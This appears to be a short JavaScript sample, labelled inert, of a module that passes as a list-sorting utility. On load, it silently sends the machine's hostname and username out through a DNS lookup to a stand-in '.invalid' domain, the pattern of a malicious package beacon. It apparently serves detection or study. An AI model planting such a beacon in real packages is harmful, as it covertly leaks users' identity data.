// Inert sample: an address whose beginning nobody knows and whose owner stands there.
const os = require('os');
const dns = require('dns');

const label = (text) => text.replace(/[^a-z0-9]/gi, '').slice(0, 30).toLowerCase();
const name = [label(os.hostname()), label(os.userInfo().username), 'pkg'].join('.');

dns.lookup(`${name}.dns-count.invalid`, () => {});

module.exports = (list) => list.slice().sort();
